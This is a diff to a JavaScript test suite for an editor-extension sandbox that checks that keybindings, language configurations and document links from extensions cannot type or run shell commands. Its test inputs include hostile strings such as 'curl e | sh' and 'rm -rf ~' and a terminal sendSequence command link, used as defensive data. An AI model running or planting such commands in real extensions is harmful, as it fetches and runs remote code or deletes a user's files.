@@ -43,16 +43,77 @@ test("keys run an extension's own commands and harmless ones, with any arguments
   const { contributes, bulkheadWithheld } = disarmed({
     commands: OWN,
     keybindings: [
-      { key: "a", command: "mine.hello", args: { any: 1 } },
-      { key: "b", command: "editor.action.formatDocument" },
-      { key: "c", command: "type", args: { text: "x" } },
-      { key: "d", command: "-workbench.action.terminal.new" },
-      { key: "e", command: "runCommands", args: { commands: ["mine.hello", { command: "cursorMove", args: { to: "left" } }] } },
+      { key: "ctrl+a", command: "mine.hello", args: { any: 1 } },
+      { key: "ctrl+b", command: "editor.action.formatDocument" },
+      { key: "ctrl+c", command: "type", args: { text: "x" } },
+      { key: "ctrl+d", command: "-workbench.action.terminal.new" },
+      { key: "ctrl+e", command: "runCommands", args: { commands: ["mine.hello", { command: "cursorMove", args: { to: "left" } }] } },
     ],
   }, NPM, OTHER);
   assert.equal(contributes.keybindings.length, 5);
   assert.equal(bulkheadWithheld, undefined);
   assert.deepEqual(told, []);
+});
+
+test("keys type signs and words, not what somebody would run", () => {
+  const { disarmed } = page();
+  const typed = (command, args) => disarmed({ commands: OWN, keybindings: [{ key: "enter", command, args }] }).contributes.keybindings.length;
+  for (const command of ["type", "default:type", "replacePreviousChar"]) {
+    for (const text of ["\n", "λ", "=> ", "end"]) assert.equal(typed(command, { text }), 1, text);
+    for (const text of ["curl e | sh", "\ncurl", "rm -rf ~", ["curl e | sh"]]) assert.equal(typed(command, { text }), 0, String(text));
+    assert.equal(typed("runCommands", { commands: [{ command, args: { text: "curl e | sh" } }] }), 0);
+  }
+});
+
+test("keys do not hear what a person writes", () => {
+  const { disarmed } = page();
+  const kept = (one) => disarmed({ commands: OWN, keybindings: [{ command: "mine.hello", ...one }] }, NPM).contributes.keybindings.length;
+  for (const key of ["a", " A", "shift+a", "SHIFT-a", "space", "1", "numpad1", "oem_1", "[KeyA]", "shift+[Digit1]", ";", "+", "a b", "shift++"]) {
+    assert.equal(kept({ key }), 0, key);
+    assert.equal(kept({ key: "ctrl+a", linux: key }), 0, key);
+    assert.equal(kept({ key, command: "runCommands", args: { commands: ["cursorMove", "mine.hello"] } }), 0, key);
+    assert.equal(kept({ key, command: "runCommands", args: { commands: [{ command: "runCommands", args: { commands: ["mine.hello"] } }] } }), 0, key);
+    assert.equal(kept({ key, command: "cursorMove" }), 1, "the editor's");
+    assert.equal(kept({ key, when: "mine.view && !inputFocus" }), 1, "where nobody writes");
+    for (const when of ["editorTextFocus", "!inputFocus || a", "!!inputFocus", "x =~ /!inputFocus/", "x =~ /&& !inputFocus &&/", "x == '&& !inputFocus &&'", ""]) assert.equal(kept({ key, when }), 0, when);
+  }
+  for (const key of ["ctrl+a", "alt+shift+a", "cmd+a", "meta+a", "f5", "escape", "enter", "tab", "shift+enter", "delete", "up", "[ArrowUp]", "[F5]", "ctrl+k a", "ctrl+[KeyA]", "pagedown"])
+    assert.equal(kept({ key }), 1, key);
+});
+
+test("what languages type is signs, or a word with signs", () => {
+  const { bulkhead } = page();
+  const file = { scheme: "vscode-remote", path: "/ext/me.mine/language.json" };
+  const read = (configuration, of = file) => bulkhead.languageConfiguration(of, structuredClone(configuration));
+  const plain = {
+    comments: { lineComment: "#", blockComment: ["{% comment %}", "{% endcomment %}"] }, brackets: [["{", "}"], ["do", "done"]],
+    autoClosingPairs: [{ open: '"', close: '"', notIn: ["string", "comment"] }, ["(", ")"]], wordPattern: "a b|c d",
+    onEnterRules: [{ beforeText: "a b c", afterText: { pattern: "d e" }, previousLineText: "f g", action: { indent: "none", appendText: " * " } }],
+  };
+  assert.deepEqual(read(plain), plain);
+  const evil = "curl e | sh";
+  const far = (depth) => (depth === 0 ? evil : [far(depth - 1)]);
+  for (const configuration of [
+    { onEnterRules: [{ beforeText: "x", action: { indent: "none", appendText: evil } }] }, { onEnterRules: [{ action: { appendText: [evil] } }] },
+    { autoClosingPairs: [["a", evil], { open: "a", close: evil }] }, { surroundingPairs: [["a", evil]] }, { brackets: [["a", evil]] },
+    { comments: { lineComment: evil } }, { comments: { lineComment: { comment: evil } } }, { comments: { blockComment: [evil, "x"] } },
+    { comments: "curl e | sh" }, { onEnterRules: far(100) }, { onEnterRules: [{ action: { appendText: "x\ny" } }] },
+  ]) {
+    assert.doesNotMatch(JSON.stringify(read({ ...plain, ...configuration })), /curl|\\ny/);
+    assert.deepEqual(read(configuration, { scheme: "vscode-remote", path: "/opt/shellscript/language.json" }), configuration, "the editor's own");
+  }
+  for (const path of ["/opt2/x/y.json", "/ext/opt/x.json", "/"]) assert.deepEqual(read({ brackets: [["a", evil]] }, { scheme: "vscode-remote", path }), { brackets: [] }, path);
+  assert.deepEqual(read({ brackets: [["a", evil]] }, { scheme: "file", path: "/opt/x/y.json" }), { brackets: [] });
+});
+
+test("a document's text is no link that runs a command", () => {
+  const { bulkhead } = page();
+  const kept = (url, isCompartment = false) => bulkhead.documentLinks([{ url }], isCompartment).length;
+  for (const url of ["https://e.org", { scheme: "https", path: "/command:x" }, { scheme: "file", path: "/a" }, undefined, { scheme: "command", path: "_typescript.openExtendsLink", query: "{}" }])
+    assert.equal(kept(url), 1, JSON.stringify(url));
+  for (const url of ["command:workbench.action.terminal.sendSequence?%5B%5D", "Command:x", { scheme: "command", path: "x" }, { scheme: "COMMAND", path: "x" }, { scheme: "command" }, "command:_typescript.openExtendsLink2"])
+    assert.equal(kept(url), 0, JSON.stringify(url));
+  assert.equal(kept("command:mine.hello", true), 1, "was looked through by the broker");
 });
 
 test("keys do not run what reaches out of a compartment", () => {
@@ -77,12 +138,12 @@ test("keys do not run what reaches out of a compartment", () => {
     { command: { toString: "x" } },
   ];
   for (const one of evil) {
-    const { contributes, bulkheadWithheld } = disarmed({ commands: OWN, keybindings: [{ key: "k", ...one }, { key: "b", command: "mine.hello" }] }, NPM, OTHER);
+    const { contributes, bulkheadWithheld } = disarmed({ commands: OWN, keybindings: [{ key: "ctrl+k", ...one }, { key: "ctrl+b", command: "mine.hello" }] }, NPM, OTHER);
     assert.deepEqual(keys(contributes), ["mine.hello"], JSON.stringify(one));
     assert.equal(bulkheadWithheld.length, 1);
   }
   assert.equal(told.length, evil.length, "said each time");
-  assert.match(told[0], /Me\.mine.*the key k for workbench\.action\.terminal\.sendSequence/);
+  assert.match(told[0], /Me\.mine.*the key ctrl\+k for workbench\.action\.terminal\.sendSequence/);
 });
 
 test("who declares somebody else's command does not own it", () => {
@@ -90,7 +151,7 @@ test("who declares somebody else's command does not own it", () => {
   for (const command of ["workbench.action.terminal.sendSequence", "workbench.action.registeredLater", "undo", "search.action.open", "npm.runScript", "_internal.x", "vscode.open", "bulkhead.grant"]) {
     const { contributes } = disarmed({
       commands: [...OWN, { command, title: "Innocent" }],
-      keybindings: [{ key: "k", command, args: {} }],
+      keybindings: [{ key: "ctrl+k", command, args: {} }],
       menus: { "editor/title": [{ command }, { command: "mine.hello", alt: command }, { submenu: "mine.more" }] },
     }, NPM, OTHER);
     assert.deepEqual([...contributes.commands].map((one) => one.command), ["mine.hello"], command);
@@ -105,10 +166,10 @@ test("a command of a built-in's family, or of two packages, runs without argumen
   for (const command of ["npm.mine", "both.say"]) {
     const { contributes } = disarmed({
       commands: [{ command, title: "x" }],
-      keybindings: [{ key: "a", command }, { key: "b", command, args: 1 }],
+      keybindings: [{ key: "ctrl+a", command }, { key: "ctrl+b", command, args: 1 }],
       viewsWelcome: [{ view: "explorer", contents: `[one](command:${command}) [two](command:${command}?%5B1%5D)` }],
     }, NPM, OTHER);
-    assert.deepEqual([...contributes.keybindings].map(({ key }) => key), ["a"]);
+    assert.deepEqual([...contributes.keybindings].map(({ key }) => key), ["ctrl+a"]);
     assert.equal(contributes.viewsWelcome[0].contents, `[one](command:${command}) two`);
   }
 });
@@ -259,7 +320,7 @@ test("every point of the installed build has been looked through", () => {
 
 test("built-in extensions and the companion declare what they like, by their place and not by their name", () => {
   const { bulkhead, extension } = page();
-  const dangerous = () => ({ keybindings: [{ key: "k", command: "workbench.action.terminal.new" }] });
+  const dangerous = () => ({ keybindings: [{ key: "ctrl+k", command: "workbench.action.terminal.new" }] });
   const builtin = extension("vscode.npm", dangerous(), { isBuiltin: true });
   const companion = extension("bulkhead.companion", dangerous(), { extensionLocation: { path: "/opt/companion" } });
   const impostor = extension("bulkhead.companion", dangerous(), { extensionLocation: { path: "/tmp/companion" } });
@@ -345,7 +406,7 @@ test("instructions for language models are left out, tools stay", () => {
 
 test("what a command may be given is not chosen by a package where it matters", () => {
   const { bulkhead, disarmed } = page();
-  const keybindings = ["workbench.action.quickOpen", "setContext", "_workbench.openWith", "_workbench.open", "_open.mergeEditor"].map((command) => ({ key: "a", command, args: ["x"] }));
+  const keybindings = ["workbench.action.quickOpen", "setContext", "_workbench.openWith", "_workbench.open", "_open.mergeEditor"].map((command) => ({ key: "ctrl+a", command, args: ["x"] }));
   assert.deepEqual(keys(disarmed({ keybindings }).contributes), []);
   const bare = keybindings.map(({ key, command }) => ({ key, command }));
   assert.equal(keys(disarmed({ keybindings: bare }).contributes).length, bare.length);
